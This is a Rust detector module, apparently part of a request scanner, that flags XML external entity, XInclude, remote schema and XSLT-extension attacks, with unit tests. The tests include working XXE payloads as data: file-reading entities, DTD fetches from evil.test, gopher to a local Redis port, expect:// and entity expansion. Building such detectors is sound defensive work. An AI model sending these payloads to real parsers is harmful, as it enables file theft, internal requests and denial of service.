//! XML that makes its reader fetch, include, expand or run: document types, entities, inclusion, schemas, style sheets.
//!
//! **In:** a decoded value; a whole body that is XML. **Out:** hits of class `xxe`.
//! **Invariant:** what honest documents declare is none: HTML's document types, those of well-known standards (a public identifier
//! and its place at the body that publishes it, also with Illustrator's plain entities), name spaces, schema locations in pairs.
//! **Source:** XML 1.0 §2.8, §4.2; XInclude 1.1; XSLT 1.0 §11–§14; Associating Style Sheets with XML 1.0.
//! **Cost:** one pass over `<`; a tag is read to its end, a literal at most [`MAX_LITERAL`] bytes.

use super::bytes::{ANGLE, byte, has_at, is_space, rest, skip_space};
use super::triggers::XXE;
use super::{Class, Hits, Strength, View, bytes, spend};

/// Words no pattern of this file can do without.
pub(super) const WORDS: &[&[u8]] = &[
    b"doctype",
    b"entity",
    b"include",
    b"import",
    b"redefine",
    b"xinclude",
    b"stylesheet",
    b"schemalocation",
    b"nonamespaceschemalocation",
    b"transform",
    b"utf",
    b"ibm037",
    b"cp037",
    b"ebcdic",
    b"xlink",
    b"xsl",
];

/// Bytes of a quoted literal that are read.
const MAX_LITERAL: usize = 512;
/// Bytes of a name that are read.
const MAX_NAME: usize = 128;
/// Bytes of a tag that are read.
const MAX_TAG: usize = 2048;

/// Scans one value.
pub(super) fn scan(view: &View<'_>, steps: &mut u64, hits: &mut Hits) {
    if view.words & XXE == 0 || view.classes & ANGLE == 0 {
        return;
    }
    let text = view.bytes;
    spend(steps, text.len());
    let mut scan = Scan {
        text,
        starts: starts(text),
        style_sheet: bytes::contains(text, b"/xsl/transform") || bytes::contains(text, b"<xsl:"),
        published: false,
        entities: 0,
        hits,
    };
    let mut at = 0_usize;
    while let Some(step) = rest(text, at).iter().position(|&byte| byte == b'<') {
        at = at.saturating_add(step);
        scan.markup(at);
        if scan.hits.is_decisive(Class::Xxe) {
            return;
        }
        at = at.saturating_add(1);
    }
}

/// Whether the value is XML from its first byte, not prose with XML in it.
fn starts(text: &[u8]) -> bool {
    let start = skip_space(text, 0);
    byte(text, start) == b'<'
        && matches!(byte(text, start.saturating_add(1)), b'?' | b'!' | b'a'..=b'z' | b'A'..=b'Z')
}

struct Scan<'a, 'h> {
    text: &'a [u8],
    /// The value starts as XML does.
    starts: bool,
    /// The name space of XSLT stands somewhere, or its usual prefix does.
    style_sheet: bool,
    /// The document type is a published one.
    published: bool,
    /// Entities that were declared with a plain text.
    entities: u32,
    hits: &'h mut Hits,
}

impl Scan<'_, '_> {
    fn hit(&mut self, strength: Strength, at: usize) {
        self.hits.add(Class::Xxe, strength, at);
    }

    /// Decisive in a document, suspicious in prose.
    const fn in_document(&self) -> Strength {
        if self.starts {
            Strength::Decisive
        } else {
            Strength::Suspicious
        }
    }

    /// What starts with the `<` at `at`.
    fn markup(&mut self, at: usize) {
        let next = at.saturating_add(2);
        match byte(self.text, at.saturating_add(1)) {
            b'!' if has_at(self.text, next, b"doctype") => self.document_type(at),
            b'!' if has_at(self.text, next, b"entity") => self.entity(at),
            // A conditional section: only in a DTD.
            b'!' if has_at(self.text, next, b"[%") || has_at(self.text, next, b"[include[") => {
                self.hit(Strength::Decisive, at);
            }
            b'?' if has_at(self.text, next, b"xml-stylesheet") => self.style(at),
            b'?' if has_at(self.text, next, b"xml") => self.xml_declaration(at),
            byte if byte.is_ascii_alphabetic() => self.tag(at),
            _ => {}
        }
    }

    /// `<!DOCTYPE name SYSTEM "…" [`.
    fn document_type(&mut self, at: usize) {
        let after = skip_space(self.text, at.saturating_add(9));
        let length = start(self.text, after)
            .iter()
            .position(|&byte| is_space(byte) || matches!(byte, b'[' | b'>' | b'<' | b'"' | b'\''));
        let Some(length) = length else { return };
        let mut at_word = skip_space(self.text, after.saturating_add(length));
        if has_at(self.text, at_word, b"system") {
            let (place, end) = literal(self.text, at_word.saturating_add(6));
            self.external(place, at);
            at_word = skip_space(self.text, end);
        } else if has_at(self.text, at_word, b"public") {
            let (_, end) = literal(self.text, at_word.saturating_add(6));
            let (place, end) = literal(self.text, end);
            if !place.is_empty() {
                self.external(place, at);
            }
            at_word = skip_space(self.text, end);
        }
        if byte(self.text, at_word) == b'[' && !self.published && length > 0 {
            let strength = self.in_document();
            self.hit(strength, at);
        }
    }

    /// Where a document type or an entity is fetched from.
    fn external(&mut self, place: &[u8], at: usize) {
        let remote = place.contains(&b':')
            || place.starts_with(b"/")
            || place.starts_with(b"\\")
            || bytes::contains(place, b"..");
        if is_published(place) {
            self.published = true;
        } else if remote {
            self.hit(Strength::Decisive, at);
        } else {
            self.hit(Strength::Suspicious, at);
        }
    }

    /// `<!ENTITY name …>`.
    fn entity(&mut self, at: usize) {
        let mut next = at.saturating_add(8);
        if !is_space(byte(self.text, next)) {
            return;
        }
        next = skip_space(self.text, next);
        // `&#37;`: a declaration within a literal.
        if byte(self.text, next) == b'%' || has_at(self.text, next, b"&#") {
            self.hit(Strength::Decisive, at);
            return;
        }
        let name = start(self.text, next);
        let Some(length) = name.iter().position(|&byte| is_space(byte)) else {
            return;
        };
        next = skip_space(self.text, next.saturating_add(length));
        if has_at(self.text, next, b"system") {
            let (place, _) = literal(self.text, next.saturating_add(6));
            // A file beside the document, in prose: a manual explains entities.
            let strength = if self.starts || place.iter().any(|byte| matches!(byte, b':' | b'/')) {
                Strength::Decisive
            } else {
                Strength::Suspicious
            };
            self.hit(strength, at);
        } else if has_at(self.text, next, b"public") {
            self.hit(Strength::Decisive, at);
        } else if matches!(byte(self.text, next), b'"' | b'\'') {
            let (value, _) = literal(self.text, next);
            let references = value
                .iter()
                .filter(|&&byte| matches!(byte, b'&' | b'%'))
                .take(4)
                .fold(0_u8, |count, _| count.saturating_add(1));
            self.entities = self.entities.saturating_add(1);
            // An entity of entities: what grows without bound.
            let expands = references >= 2 && (self.entities >= 2 || self.starts);
            if expands || (self.starts && !self.published) {
                self.hit(Strength::Decisive, at);
            } else if !self.published {
                self.hit(Strength::Suspicious, at);
            }
        }
    }

    /// `<?xml-stylesheet href="…"?>`.
    fn style(&mut self, at: usize) {
        let tag = tag(self.text, at);
        let Some(place) = attribute(tag, b"href") else {
            return;
        };
        let strength = if is_remote(place) && !is_published(place) {
            Strength::Decisive
        } else {
            Strength::Suspicious
        };
        self.hit(strength, at);
    }

    /// `<?xml encoding="…"?>`: encodings in which other readers see other text.
    fn xml_declaration(&mut self, at: usize) {
        let Some(name) = attribute(tag(self.text, at), b"encoding") else {
            return;
        };
        let odd = [&b"utf-7"[..], b"utf7", b"ibm037", b"cp037", b"ebcdic"];
        if odd.iter().any(|odd| has_at(name, 0, odd)) {
            self.hit(Strength::Decisive, at);
        }
    }

    /// An element's tag.
    fn tag(&mut self, at: usize) {
        let tag = tag(self.text, at);
        let name = tag
            .iter()
            .position(|&byte| is_space(byte) || byte == b'/')
            .and_then(|end| tag.get(..end))
            .unwrap_or(tag);
        let Some(colon) = name.iter().position(|&byte| byte == b':') else {
            self.attributes(tag, at);
            return;
        };
        let prefix = name.get(..colon).unwrap_or_default();
        let local = rest(name, colon.saturating_add(1));
        let schema = prefix.eq_ignore_ascii_case(b"xs") || prefix.eq_ignore_ascii_case(b"xsd");
        let inclusion = local.eq_ignore_ascii_case(b"include")
            || local.eq_ignore_ascii_case(b"import")
            || local.eq_ignore_ascii_case(b"redefine");
        if inclusion && schema {
            let place = attribute(tag, b"schemalocation").or_else(|| {
                // `include` has no name space: a probe.
                let include = local.eq_ignore_ascii_case(b"include");
                attribute(tag, b"namespace").filter(|_| include)
            });
            if place.is_some_and(|place| is_remote(place) && !is_published(place)) {
                self.hit(Strength::Decisive, at);
            }
        } else if inclusion
            && (attribute(tag, b"href").is_some() || attribute(tag, b"parse").is_some())
        {
            // XInclude under any prefix; `xsl:include`, `xsl:import`.
            let strength = if self.starts || has_at(prefix, 0, b"xi") {
                Strength::Decisive
            } else {
                Strength::Suspicious
            };
            self.hit(strength, at);
        }
        self.attributes(tag, at);
    }

    fn attributes(&mut self, tag: &[u8], at: usize) {
        if bytes::contains_any(tag, &[b"schemalocation", b"href"]) {
            self.places(tag, at);
        }
        if !self.style_sheet {
            return;
        }
        // A style sheet is a program.
        const CALLS: [&[u8]; 14] = [
            b"document(",
            b"system-property(",
            b"unparsed-text(",
            b"php:function",
            b"php.net/xsl",
            b"xalan/java",
            b"xalan.apache.org",
            b"java-type",
            b"xsl:result-document",
            b"urn:schemas-microsoft-com:xslt",
            b"extension-element-prefixes",
            b"evaluate(",
            b"doc(",
            b"xsl:evaluate",
        ];
        if bytes::contains_any(tag, &CALLS) {
            let strength = self.in_document();
            self.hit(strength, at);
        }
    }

    /// Where a tag's attributes lead to.
    fn places(&mut self, tag: &[u8], at: usize) {
        for name in [&b"schemalocation"[..], b"nonamespaceschemalocation"] {
            let location = attribute(tag, name).and_then(|value| {
                value
                    .rsplit(|&byte| is_space(byte))
                    .find(|part| !part.is_empty())
            });
            // Pairs of a name space and its schema are everywhere.
            let alone = location.is_some_and(|location| {
                is_remote(location)
                    && !is_published(location)
                    && attribute(tag, name).is_some_and(|value| value.trim_ascii() == location)
            });
            if alone {
                self.hit(Strength::Suspicious, at);
            }
        }
        if let Some(pairs) = attribute(tag, b"schemalocation") {
            let mut parts = pairs
                .split(|&byte| is_space(byte))
                .filter(|part| !part.is_empty());
            while let (Some(space), Some(place)) = (parts.next(), parts.next()) {
                if is_remote(place) && !is_published(place) && calls_home(host(space), host(place))
                {
                    self.hit(Strength::Decisive, at);
                }
            }
        }
        if let Some(place) = attribute(tag, b"href") {
            const INNER: [&[u8]; 6] = [
                b"file:", b"expect:", b"php:", b"jar:", b"netdoc:", b"gopher:",
            ];
            if bytes::contains(tag, b"xlink:href")
                && INNER.iter().any(|inner| has_at(place, 0, inner))
            {
                self.hit(Strength::Decisive, at);
            }
        }
    }
}

/// The host of a URL, empty for anything else.
fn host(place: &[u8]) -> &[u8] {
    let Some(start) = bytes::pair(place, |a, b| a == b'/' && b == b'/') else {
        return &[];
    };
    let host = rest(place, start.saturating_add(2));
    let end = host
        .iter()
        .position(|byte| matches!(byte, b'/' | b':' | b'?' | b'#'));
    host.get(..end.unwrap_or(host.len())).unwrap_or(host)
}

/// Letters and digits from which a label is drawn by lot.
const LOT: usize = 24;

/// A schema at a host that does not own the name space, under a label that somebody waits for: the document's reader calls home.
fn calls_home(space: &[u8], place: &[u8]) -> bool {
    let label = place.split(|&byte| byte == b'.').next().unwrap_or(place);
    let digits = bytes::tally(label.iter().filter(|byte| byte.is_ascii_digit()));
    let own = |host: &[u8]| {
        let dot = host.iter().rposition(|&byte| byte == b'.').unwrap_or(0);
        let lead = host.get(..dot).unwrap_or(&[]);
        lead.iter()
            .rposition(|&byte| byte == b'.')
            .map_or(0, |at| at.saturating_add(1))
    };
    let differs = !rest(space, own(space)).eq_ignore_ascii_case(rest(place, own(place)));
    differs && label.len() >= LOT && digits >= 3
}

/// The bytes from `at` in which a name has to end.
fn start(text: &[u8], at: usize) -> &[u8] {
    let text = rest(text, at);
    text.get(..MAX_NAME).unwrap_or(text)
}

/// A tag from its `<` to its end; a `<` ends a broken one.
fn tag(text: &[u8], at: usize) -> &[u8] {
    let inside = rest(text, at.saturating_add(1));
    let inside = inside.get(..MAX_TAG).unwrap_or(inside);
    let end = inside.iter().position(|&byte| matches!(byte, b'<' | b'>'));
    inside.get(..end.unwrap_or(inside.len())).unwrap_or(inside)
}

/// The value of the attribute `name` (lower case, any prefix).
fn attribute<'a>(tag: &'a [u8], name: &[u8]) -> Option<&'a [u8]> {
    let mut left = tag;
    while let Some(at) = left.iter().position(|&byte| byte == b'=') {
        let before = left.get(..at).unwrap_or_default().trim_ascii_end();
        let (value, end) = literal(left, at.saturating_add(1));
        let start = before.len().saturating_sub(name.len());
        if has_at(before, start, name)
            && (start == 0
                || matches!(
                    byte(before, start.saturating_sub(1)),
                    b':' | b' ' | b'\t' | b'\n' | b'\r'
                ))
        {
            return Some(value);
        }
        left = rest(left, end.max(at.saturating_add(1)));
    }
    None
}

/// The quoted text that starts at or after `at` (over blanks), and the place behind it.
fn literal(text: &[u8], at: usize) -> (&[u8], usize) {
    let open = skip_space(text, at);
    let quote = byte(text, open);
    if !matches!(quote, b'"' | b'\'') {
        return (&[], open);
    }
    let start = open.saturating_add(1);
    let inside = rest(text, start);
    let inside = inside.get(..MAX_LITERAL).unwrap_or(inside);
    let end = inside.iter().position(|&byte| byte == quote);
    let length = end.unwrap_or(inside.len());
    let inside = inside.get(..length).unwrap_or(inside);
    (inside, start.saturating_add(length).saturating_add(1))
}

/// Whether a place names a scheme or a host.
fn is_remote(place: &[u8]) -> bool {
    let place = place.trim_ascii_start();
    place.starts_with(b"//")
        || place.starts_with(b"\\\\")
        || place
            .get(..16)
            .unwrap_or(place)
            .iter()
            .position(|&byte| byte == b':')
            .is_some_and(|colon| colon > 1 && rest(place, colon).starts_with(b":/"))
}

/// Hosts of standards bodies and projects whose document types honest documents name.
const PUBLISHED: [&[u8]; 17] = [
    b"www.w3.org/",
    b"www.apple.com/dtds/",
    b"xml.cxml.org/",
    b"mybatis.org/",
    b"www.mybatis.org/",
    b"www.hibernate.org/",
    b"hibernate.sourceforge.net/",
    b"www.springframework.org/",
    b"www.oasis-open.org/",
    b"docs.oasis-open.org/",
    b"java.sun.com/",
    b"struts.apache.org/",
    b"maven.apache.org/",
    b"www.sitemaps.org/",
    b"www.topografix.com/",
    b"checkstyle.org/",
    b"dtd.nlm.nih.gov/",
];

/// Whether `place` is on the host of a standard.
fn is_published(place: &[u8]) -> bool {
    let Some(address) = [&b"http://"[..], b"https://"]
        .iter()
        .find(|scheme| has_at(place, 0, scheme))
        .map(|scheme| rest(place, scheme.len()))
    else {
        return false;
    };
    PUBLISHED.iter().any(|host| has_at(address, 0, host))
}

#[cfg(test)]
mod tests {
    use super::super::hits_of;
    use super::{Class, Strength};

    fn strength(value: &str) -> Option<Strength> {
        hits_of(value.as_bytes())
            .into_iter()
            .find(|(class, _)| *class == Class::Xxe)
            .map(|(_, strength)| strength)
    }

    #[test]
    fn attacks_are_found() {
        for value in [
            "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY f SYSTEM \"file:///srv/secret\">]><r>&f;</r>",
            "<!DOCTYPE r [<!ENTITY % p SYSTEM 'http://evil.test/d.dtd'> %p;]><r/>",
            "<!doctype r system \"http://evil.test/d.dtd\"><r/>",
            "<r xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"http://a.test/ http://x7f3k9q2m5p8r1t4w6z0c3v8.b.test/r.xsd\"/>",
            "<!DOCTYPE r SYSTEM \"//host/share/d.dtd\"><r/>",
            "<!DOCTYPE r PUBLIC \"-//any//thing\" \"gopher://127.0.0.1:6379/_\"><r/>",
            "<!DOCTYPE r PUBLIC \"-//W3C//DTD XHTML 1.0//EN\" \"http://www.w3.org.evil.test/x.dtd\"><r/>",
            "<!DOCTYPE r [<!ELEMENT r ANY><!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;\">]><r>&b;</r>",
            "<!DOCTYPE\n\tr\n[\n<!ENTITY\nf\nSYSTEM\n'../../../etc/hosts'>]>",
            "text before <!ENTITY e SYSTEM \"expect://id\">",
            "<!ENTITY e PUBLIC \"x\" \"http://evil.test/\">",
            "<!DOCTYPE data [",
            "<r xmlns:z=\"http://www.w3.org/2001/XInclude\"><z:include parse=\"text\" href=\"file:///etc/hosts\"/></r>",
            "and <xi:include href='http://10.0.0.1/'/>",
            "<?xml-stylesheet type=\"text/xsl\" href=\"http://evil.test/a.xsl\"?><r/>",
            "<?xml version='1.0' encoding='UTF-7'?>+ADwAIQ-DOCTYPE",
            "<x:stylesheet xmlns:x=\"http://www.w3.org/1999/XSL/Transform\" version=\"1.0\"><x:value-of select=\"document('/etc/hosts')\"/></x:stylesheet>",
            "<xsl:stylesheet xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\" xmlns:php=\"http://php.net/xsl\"/>",
            "<xsl:value-of select=\"system-property('xsl:version')\"/>",
            "<xs:schema xmlns:xs=\"http://www.w3.org/2001/XMLSchema\"><xs:import schemaLocation=\"http://evil.test/a.xsd\"/></xs:schema>",
            "<svg xmlns:xlink=\"http://www.w3.org/1999/xlink\"><image xlink:href=\"expect://include\"/></svg>",
            "<!DOCTYPE r [<![%x;[<!ENTITY a 'b'>]]>]>",
        ] {
            assert_eq!(strength(value), Some(Strength::Decisive), "{value}");
        }
    }

    #[test]
    fn honest_documents_pass() {
        for value in [
            "<!DOCTYPE html><html><head><title>a</title></head></html>",
            "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\">",
            "<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\" [<!ENTITY ns_svg \"http://www.w3.org/2000/svg\"> ]><svg xmlns=\"&ns_svg;\"/>",
            "<?xml version=\"1.0\"?><!DOCTYPE plist PUBLIC \"-//Apple//DTD PLIST 1.0//EN\" \"http://www.apple.com/DTDs/PropertyList-1.0.dtd\"><plist/>",
            "<!DOCTYPE mapper PUBLIC \"-//mybatis.org//DTD Mapper 3.0//EN\" \"https://mybatis.org/dtd/mybatis-3-mapper.dtd\">",
            "<!DOCTYPE cXML SYSTEM \"http://xml.cxml.org/schemas/cXML/1.2.014/cXML.dtd\"><cXML/>",
            "<project xmlns=\"http://maven.apache.org/POM/4.0.0\" xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"http://maven.apache.org/POM/4.0.0 http://maven.apache.org/xsd/maven-4.0.0.xsd\"/>",
            "<Document xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"urn:iso:std:iso:20022 pain.001.001.03.xsd\"/>",
            "<gpx xsi:schemaLocation=\"http://a.example/gpx http://b.example/gpx.xsd\"/>",
            "please include the file <name> and import <stdio.h>",
            "#include <stdio.h>\nimport <vector>;",
            "The entity <company> shall transform the utf-8 text",
            "<soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\"><soap:Body/></soap:Envelope>",
            "<?xml version=\"1.0\" encoding=\"UTF-8\"?><a/>",
            "<svg xmlns:xlink=\"http://www.w3.org/1999/xlink\"><use xlink:href=\"#a\"/><image xlink:href=\"logo.png\"/></svg>",
        ] {
            assert_eq!(strength(value), None, "{value}");
        }
        // Told apart, not refused: no class at all stops a question about DTDs.
        for value in [
            "How do I declare <!ENTITY copy \"(c)\"> in my file?",
            "<!DOCTYPE note SYSTEM \"note.dtd\">",
            "My feed has <?xml-stylesheet href=\"/style.css\"?> in it",
        ] {
            assert_eq!(strength(value), Some(Strength::Suspicious), "{value}");
        }
    }

    #[test]
    fn every_cut_ends() {
        let text = b"<!DOCTYPE a SYSTEM \"b\" [<!ENTITY % c \"d&e;\"><!ENTITY f PUBLIC 'g' \"h\">]><i:include href='j' xsi:schemaLocation=\"k l\"/>";
        for end in 0..=text.len() {
            let _ = hits_of(&text[..end]);
        }
    }
}
